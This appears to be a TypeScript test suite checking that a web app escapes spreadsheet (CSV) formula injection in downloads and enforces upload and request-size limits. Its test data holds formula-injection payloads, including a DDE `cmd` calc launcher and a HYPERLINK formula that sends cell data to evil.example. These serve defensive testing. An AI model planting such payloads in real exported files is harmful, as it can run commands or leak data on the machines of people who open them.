import { SPREADSHEET_COLUMNS } from '@agentry/domain/spreadsheet-cells';
import { agentInput } from '@agentry/platform/store/contract';
import * as XLSX from 'xlsx';
import { CSRF_HEADER } from '../http/csrf';
import { answerToPartialBody } from '../testing/partial-body';
import { startTestServer, type TestServer } from '../testing/test-server';
import { ADMIN_ENV, AdminBrowser, agentForm, Visitor } from '../testing/visitor';

// Spreadsheet (CSV) injection and request sizes, through the real routes. The rest of the upload
// limits (type by name and by content, 10 MB, zip bombs) and the '=' case of the download are in
// routes/api/admin/admin-spreadsheets.test.ts; the escaping rule itself in domain/src/spreadsheet-cells.test.ts.

const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];

describe('spreadsheets and uploads', () => {
  let server: TestServer;
  let admin: AdminBrowser;

  beforeAll(async () => {
    server = await startTestServer(ADMIN_ENV);
    admin = await new AdminBrowser(server.running.url).signIn();
  });
  afterAll(() => server.stop());

  async function downloadedRows(): Promise<XLSX.WorkSheet> {
    const response = await admin.downloadAgents();
    const book = XLSX.read(response.body as Buffer, { type: 'buffer', cellFormula: true });
    return book.Sheets[book.SheetNames[0]!]!;
  }

  it('When any text starts with = + - @ tab or CR, then its cell downloads as plain text behind an apostrophe', async () => {
    const { store } = server.running.context;
    for (const [index, start] of FORMULA_STARTS.entries()) {
      // Every column of the download, each with a formula-looking text.
      await store.agents.create(
        agentInput({
          name: `${start}cmd|' /C calc'!A${index}`,
          provider: `${start}HYPERLINK("http://evil.example/?d="&A1)`,
          category: `${start}SUM(1)`,
          role: `${start}1+1 role ${index}`,
          description: `${start}2+3`,
          cost: `${start}5`,
          address: `${start}https://evil.example/${index}`,
        }),
      );
    }
    const sheet = await downloadedRows();
    const cells = Object.entries(sheet).filter(([ref]) => !ref.startsWith('!'));
    expect(cells.filter(([, cell]) => (cell as XLSX.CellObject).f !== undefined)).toEqual([]);
    const rows = XLSX.utils.sheet_to_json<Record<string, string>>(sheet);
    expect(Object.keys(rows[0]!)).toEqual([...SPREADSHEET_COLUMNS]);
    const texts = rows.flatMap((row) => Object.values(row));
    const dangerous = texts.filter((text) =>
      FORMULA_STARTS.some((start) => text.replace(/^'/, '').startsWith(start)),
    );
    expect(dangerous.length).toBe(FORMULA_STARTS.length * SPREADSHEET_COLUMNS.length);
    expect(dangerous.filter((text) => !text.startsWith("'"))).toEqual([]);
  });

  it('When a formula hides behind a control character, then the download still escapes it', async () => {
    // Through the public form: anyone can register an agent; without an address, staff list it.
    const registered = await new Visitor(server.running.url)
      .post('/api/agents', agentForm({ name: '\u0007=1+2', email: '' }))
      .expect(201);
    await admin.post(`/api/admin/review-queue/${registered.body.agent.id}/approve`).expect(200);
    const rows = XLSX.utils.sheet_to_json<Record<string, string>>(await downloadedRows());
    const hidden = rows.find((row) => row.Name?.includes('=1+2'));
    expect(hidden?.Name).toBe("'=1+2");
  });

  it('When an upload holds two files or extra fields, then 400 and nothing is read', async () => {
    const before = await server.running.context.store.agents.count({ includeRemoved: true });
    const token = await admin.csrfToken();
    const send = () => admin.http.post('/api/admin/upload').set(CSRF_HEADER, token);
    const twoFiles = await send()
      .attach('file', Buffer.from('a'), 'a.xlsx')
      .attach('file', Buffer.from('b'), 'b.xlsx');
    expect(twoFiles.status).toBe(400);
    let withFields = send();
    for (let index = 0; index < 6; index++) withFields = withFields.field(`extra${index}`, 'x');
    const fields = await withFields.attach('file', Buffer.from('a'), 'a.xlsx');
    expect(fields.status).toBe(400);
    expect(await server.running.context.store.agents.count({ includeRemoved: true })).toBe(before);
  });

  it('When a click beacon is over 1 kB, then 413 before it is read', async () => {
    const response = await server.http
      .post('/api/events')
      .set('Content-Type', 'text/plain')
      .send(JSON.stringify({ type: 'clicked', agent_id: '1', padding: 'x'.repeat(2048) }));
    expect(response.status).toBe(413);
  });

  it('When Stripe is not configured, then a webhook POST is answered 404 before its body is read', async () => {
    // Session 14's attack: the route read up to 512 kB of any POST, unthrottled, before saying 404.
    const answer = await answerToPartialBody(server.running.url, '/api/stripe/webhook', {
      'Content-Type': 'application/json',
      'Stripe-Signature': `t=1,v1=${'0'.repeat(64)}`,
    });
    expect(answer).toBe('HTTP/1.1 404 Not Found');
  });
});
